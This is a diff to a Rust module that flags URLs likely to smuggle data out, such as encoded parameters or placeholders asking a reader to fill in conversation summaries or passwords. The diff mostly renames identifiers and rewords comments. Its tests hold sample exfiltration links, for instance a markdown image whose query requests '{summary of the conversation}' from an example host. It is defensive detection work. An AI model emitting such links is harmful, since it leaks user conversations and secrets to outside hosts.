@@ -1,9 +1,9 @@
-//! Facts of addresses: what their parts carry that is encoded or words, and which gaps their reader is to fill in; each with how the
-//! address stands in the text.
+//! Facts of addresses: encoded text or words in their parts, and gaps for their reader to fill in; each with the
+//! position of the address in the text.
 //!
-//! The text of a fact is `{standing} {form} {key}={what}`: standing is `fetched`, `run`, `followed` or `bare`, form `encoded`,
-//! `words` or `gap`. An address that carries nothing has no fact. *Security*: hostile bytes; each address
-//! is read for a bounded length, with a bounded number of bytes before it. *Standards*: RFC 3986, section 3; WHATWG URL, section 4.4.
+//! The text of a fact is `{standing} {form} {key}={what}`: standing is `fetched`, `run`, `followed` or `bare`, form
+//! `encoded`, `words` or `gap`. An address without any of these has no fact. *Security*: hostile bytes; the length read
+//! is bounded for each address, and for the text before it. *Standards*: RFC 3986, section 3; WHATWG URL, section 4.4.
 
 use std::ops::Range;
 use std::sync::LazyLock;
@@ -23,7 +23,7 @@ mod host;
 mod standing;
 mod url;
 
-/// The weight of a text that stands in an address encoded, and what is taken off where that is usual.
+/// The weight of encoded text in an address, and its reduction where that is usual.
 const ENCODED: i32 = 8;
 const USUAL: i32 = 4;
 
@@ -39,12 +39,12 @@ static DISGUISED: LazyLock<Regex> = LazyLock::new(|| {
 /// Names of parameters.
 static KEYS: LazyLock<[(Key, Vec<&str>); 3]> = LazyLock::new(|| {
     let list = |kind| of_kind(include_str!("../../words/address-keys.txt"), kind);
-    [(Key::Telling, list("telling")), (Key::Ordinary, list("ordinary")), (Key::Readable, list("readable"))]
+    [(Key::Suspicious, list("telling")), (Key::Ordinary, list("ordinary")), (Key::Readable, list("readable"))]
 });
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 enum Key {
-    Telling,
+    Suspicious,
     Ordinary,
     Readable,
     Other,
@@ -100,13 +100,13 @@ fn disguised(bytes: &[u8], found: &mut Vec<Fact<'_>>) {
 
 fn fact(kind: FactKind, url: &Url, standing: Standing, data: &Data) -> Fact<'static> {
     let text = data.text.get(..TEXT_BYTES_MAX).unwrap_or(&data.text);
-    let told = [standing.word().as_bytes(), b" ", data.form.as_bytes(), b" ", &data.key, b"=", text].concat();
-    Fact { kind, range: url.range.clone(), text: told.into(), weight: data.weight }
+    let content = [standing.word().as_bytes(), b" ", data.form.as_bytes(), b" ", &data.key, b"=", text].concat();
+    Fact { kind, range: url.range.clone(), text: content.into(), weight: data.weight }
 }
 
-/// Adds what is to be said of one address.
+/// Adds the facts of one address.
 fn judge(bytes: &[u8], url: &Url, found: &mut Vec<Fact<'_>>) {
-    if !url.is_telling() || url.scheme == "otpauth" {
+    if !url.may_carry_data() || url.scheme == "otpauth" {
         return;
     }
     let at = LazyLock::new(|| standing(bytes, url.range.start));
@@ -134,7 +134,7 @@ enum Part {
     Fragment,
 }
 
-/// What is told of a part of an address.
+/// A fact about a part of an address.
 struct Data {
     form: &'static str,
     key: Vec<u8>,
@@ -142,32 +142,32 @@ struct Data {
     weight: i32,
 }
 
-/// What a part of an address carries, if that weighs anything.
+/// The content of a part of an address, if it has any weight.
 fn data(url: &Url, piece: &Piece, at: &LazyLock<Standing, impl FnOnce() -> Standing>) -> Option<Data> {
     let key = key_of(&piece.key);
     let of_host = host::kind(url);
     let known = if of_host == host::Kind::Known { USUAL } else { 0 };
-    let told = |form, text, weight| (weight > 0).then(|| Data { form, key: piece.key.clone(), text, weight });
+    let new_data = |form, text, weight| (weight > 0).then(|| Data { form, key: piece.key.clone(), text, weight });
     match carried(&piece.value) {
         _ if of_host == host::Kind::Draws => None,
         Carried::Encoded(text) => {
             let usual = if key == Key::Readable { USUAL } else { known };
-            told("encoded", text, ENCODED - usual)
+            new_data("encoded", text, ENCODED - usual)
         }
-        // Of hosts and users only codes are told.
+        // Of hosts and users only encoded text counts.
         Carried::Words { .. } if matches!(piece.part, Part::Host | Part::User) => None,
         Carried::Words { .. } if piece.part != Part::Parameter && has_ending(&piece.value) => None,
         Carried::Words { count, fields } => {
             let few = i32::try_from(count.clamp(1, 5)).unwrap_or(5).min(4) - i32::from(count == 3 || count == 4);
             let mut weight = few + at.weight() + i32::from(fields) - known;
             weight += match key {
-                Key::Telling => 2,
+                Key::Suspicious => 2,
                 Key::Ordinary => -2,
                 _ => 0,
             };
             weight -= i32::from(piece.part == Part::Segment);
             weight += i32::from(host::takes_path(&url.path)) + if of_host == host::Kind::Takes { 2 } else { 0 };
-            told("words", percent_decoded(&piece.value), weight)
+            new_data("words", percent_decoded(&piece.value), weight)
         }
         Carried::Little => None,
     }
@@ -188,13 +188,13 @@ fn around(bytes: &[u8], at: usize, before: usize, behind: usize) -> Range<usize>
 mod tests {
     use super::*;
 
-    fn told(text: &str) -> Vec<(FactKind, String, i32)> {
+    fn facts_in(text: &str) -> Vec<(FactKind, String, i32)> {
         let found = facts(text.as_bytes()).into_iter();
         found.map(|fact| (fact.kind, String::from_utf8_lossy(&fact.text).into_owned(), fact.weight)).collect()
     }
 
     #[test]
-    fn text_that_an_address_carries_is_told_with_how_it_stands() {
+    fn text_in_an_address_is_found_with_its_standing() {
         for (text, wanted) in [
             (
                 "![s](https://c.example.net/p.png?d=dXNlcj1hZGFAZXhhbXBsZS5jb207cGxhbj1nb2xk)",
@@ -235,7 +235,7 @@ mod tests {
                 "fetched encoded u=SESSION",
             ),
         ] {
-            let found = told(text);
+            let found = facts_in(text);
             assert!(
                 found.iter().any(|(kind, text, _)| *kind == FactKind::AddressData && text.starts_with(wanted)),
                 "{text} {found:?}"
@@ -244,7 +244,7 @@ mod tests {
     }
 
     #[test]
-    fn gaps_are_told_with_their_weight() {
+    fn gaps_are_found_with_their_weight() {
         for (text, least) in [
             ("![p](https://c.example/log?summary={summary of the conversation}&id=1)", 6),
             ("<img src='https://c.example/x?q=<insert the password>'>", 6),
@@ -252,7 +252,7 @@ mod tests {
             ("[a](https://c.example/x?data=%7Bdata%7D)", 4),
             ("https://c.example/users/{id}", 1),
         ] {
-            let found = told(text);
+            let found = facts_in(text);
             assert!(
                 found.iter().any(|(kind, _, weight)| *kind == FactKind::AddressGap && *weight >= least),
                 "{text} {found:?}"
@@ -271,7 +271,7 @@ mod tests {
             "<http://www.w3.org/2000/svg>",
             "[1]: https://docs.example.org/guide/getting-started.html",
         ] {
-            assert_eq!(told(text), [], "{text}");
+            assert_eq!(facts_in(text), [], "{text}");
         }
     }
 }
